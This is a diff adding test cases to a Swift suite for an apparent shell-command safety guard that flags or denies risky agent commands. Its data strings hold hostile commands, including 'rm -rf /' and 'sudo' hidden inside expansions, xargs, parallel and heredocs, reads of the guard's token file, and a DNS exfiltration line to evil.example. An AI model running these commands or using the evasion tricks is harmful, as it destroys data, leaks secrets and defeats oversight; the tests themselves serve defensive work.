@@ -53,6 +53,10 @@ struct RuleTests {
         ("x=$(id); nslookup $x.evil.example", "not-understood"), ("systemctl stop ssh", "host-settings"),
         ("echo x > SOUL.md", "agent-instructions"), ("tar cf x.tar ~", "reads-home"),
         ("git config core.hooksPath /x", "not-understood"), ("kill $PID", "kill-unknown"),
+        ("cd build; rm -rf *", "delete-not-regenerated"), ("cd build | true; rm -rf *", "delete-not-regenerated"),
+        ("{ cd ..; } && rm -rf build", "delete-outside-workspace"),
+        ("for f in a; do echo x; done > ~/x", "write-outside-workspace"), ("f() { echo x; } > ~/x; f", "write-outside-workspace"),
+        ("git checkout main file.txt", "git-destructive"),
     ])
     func doubtfulAsks(command: String, rule: String) throws {
         let verdict = try verdict(command)
@@ -87,6 +91,11 @@ struct RuleTests {
         ("cat ~/.drawbridge/token", "drawbridge-own-data"), ("rm -rf ~/.draw*", "drawbridge-own-data"),
         ("mv ~/.drawbridge /tmp/x", "drawbridge-own-data"), ("pkill -f drawbridge", "drawbridge-own-process"),
         ("chmod -R 777 /", "system-write"), ("sudo rm -rf 'x", "privilege"),
+        ("echo $(( $(rm -rf /) + 1 ))", "delete-system"), ("echo ${x:+$(rm -rf /)}", "delete-system"),
+        ("[[ -n $(sudo id) ]]", "privilege"), ("x=${y//`sudo id`/}", "privilege"),
+        ("echo / | xargs --replace bash -c 'rm -rf {}'", "delete-system"), ("parallel ::: 'rm -rf /'", "delete-system"),
+        ("echo 'rm -rf /' | xargs -I{} bash -c {}", "delete-system"),
+        ("env -S 'A=b' sudo id", "privilege"), ("cat <<E\n$(sudo id)\nE", "privilege"),
     ])
     func dangerousIsDenied(command: String, rule: String) throws {
         let verdict = try verdict(command)
